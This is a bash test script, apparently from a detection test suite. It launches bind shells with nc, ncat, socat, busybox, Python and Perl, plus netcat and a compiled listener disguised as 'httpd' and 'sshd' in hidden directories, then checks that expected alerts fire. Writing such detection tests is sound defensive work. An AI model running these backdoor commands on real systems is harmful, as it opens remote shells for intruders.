#!/bin/bash
# desc: bind shells and backdoors waiting on an address other hosts reach (in a namespace of our own): nc.traditional -l -e, ncat -l --sh-exec, socat TCP-LISTEN exec:, busybox nc -l -e, a python script from /tmp and perl inline code, netcat copied to /dev/shm under a daemon's name, a compiled listener in a hidden tmp directory; the attacker connects to each shell
# mitre: T1571, T1059.004, T1059.006, T1095, T1105
# expect: network_tool_listening*4, interpreter_listening_from_throwaway_code*2, dropped_program_listening*2, shell_started_on_network_connection*4
# timeout: 60
source "$ATTACK_LIB"
source "$(dirname "$ATTACK_LIB")/netns.sh"

netns_create
ns_wait() { # a listener on port $1 in the namespace
	local i
	for i in $(seq 1 100); do
		in_ns ss -Hltn "sport = :$1" | grep -q . && return 0
		sleep 0.05
	done
	echo "nothing listens on :$1 in $NS" >&2
	return 1
}
knock() { printf 'id\nexit\n' | timeout 5 nc -N "$PEER" "$1" >/dev/null 2>&1 || true; }

in_ns timeout 15 nc.traditional -l -p 4401 -e /bin/sh &
ns_wait 4401; knock 4401
in_ns timeout 15 ncat -l 0.0.0.0 4402 --sh-exec 'exec /bin/sh' &
ns_wait 4402; knock 4402
in_ns timeout 15 socat TCP-LISTEN:4403,reuseaddr EXEC:/bin/sh,stderr &
ns_wait 4403; knock 4403
in_ns timeout 15 busybox nc -l -p 4404 -e /bin/sh &
ns_wait 4404; knock 4404

cat >"$ATTACK_TMP/b.py" <<'PY'
import socket, subprocess
l = socket.socket(); l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
l.bind(("0.0.0.0", 4405)); l.listen(1)
c, _ = l.accept()
subprocess.call(["/bin/sh"], stdin=c, stdout=c, stderr=c)
PY
in_ns timeout 15 /usr/bin/python3 "$ATTACK_TMP/b.py" &
ns_wait 4405; knock 4405
in_ns timeout 15 perl -MIO::Socket::INET -e '$l = IO::Socket::INET->new(LocalPort => 4406, Listen => 1, ReuseAddr => 1) or die; $c = $l->accept; print $c "ready\n"; close $c' &
ns_wait 4406; knock 4406

d=/dev/shm/.$ATTACK_ID
mkdir -p "$d"; undo "rm -rf '$d'"
cp /bin/nc.openbsd "$d/httpd"
in_ns timeout 15 "$d/httpd" -l 0.0.0.0 4407 >/dev/null &
ns_wait 4407; knock 4407
mkdir -p .x
cat >l.c <<'C'
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>
int main(void)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(4408) };
	int one = 1, s = socket(AF_INET, SOCK_STREAM, 0);
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (bind(s, (struct sockaddr *)&a, sizeof(a)) || listen(s, 1))
		return 1;
	close(accept(s, 0, 0));
	return 0;
}
C
gcc -O1 -o .x/sshd l.c
in_ns timeout 15 "$ATTACK_TMP/.x/sshd" &
ns_wait 4408; knock 4408
wait
